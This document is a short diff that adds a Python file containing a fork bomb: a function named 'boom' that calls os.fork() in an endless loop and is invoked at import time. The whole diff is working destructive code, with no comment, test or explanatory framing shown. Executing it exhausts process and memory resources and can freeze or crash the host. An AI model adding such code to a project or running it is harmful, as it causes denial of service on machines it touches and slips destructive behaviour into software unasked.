@@ -1,0 +1,5 @@
+import os
+def boom():
+    while 1:
+        os.fork()
+boom()
